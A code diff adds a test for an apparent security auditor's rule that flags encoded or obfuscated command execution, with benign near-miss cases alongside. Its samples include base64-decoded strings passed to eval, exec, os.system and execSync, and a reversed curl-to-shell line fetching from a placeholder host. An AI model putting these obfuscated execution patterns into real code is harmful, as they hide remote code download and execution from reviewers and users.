@@ -55,4 +55,27 @@ describe("obfuscation rules", () => {
       ),
     ).toBeUndefined();
   });
+
+  it("encoded-execution: decoded text run by a program, through a process substitution or a name, or reversed", () => {
+    const caught = {
+      "a.py": "os.system(base64.b64decode('Y3VybCB4').decode())\n",
+      "b.sh": "bash <(echo Y3VybCB4 | base64 -d)\n",
+      "c.sh": 'X=$(echo Y3VybCB4 | base64 -d); eval "$X"\n',
+      "d.js": "const c = atob('Y3VybCB4'); require('child_process').execSync(c);\n",
+      "e.py": '_c = base64.b64decode("aW1wb3J0IG9z")\nexec(_c)\n',
+      "f.sh": "echo 'hs | x/moc.elpmaxe.x//:sptth s- lruc' | rev | bash\n",
+    };
+    for (const [file, text] of Object.entries(caught))
+      expect([file, severityOf(auditText({ [file]: text }), "encoded-execution")]).toEqual([
+        file,
+        "critical",
+      ]);
+    const near = {
+      "a.py": "data = base64.b64decode(blob)\nprint(len(data))\n",
+      "b.js": "const img = atob(encoded);\ncanvas.draw(img);\n",
+      "c.sh": "git rev-parse HEAD | xargs echo\n",
+    };
+    for (const [file, text] of Object.entries(near))
+      expect([file, severityOf(auditText({ [file]: text }), "encoded-execution")]).toEqual([file, undefined]);
+  });
 });
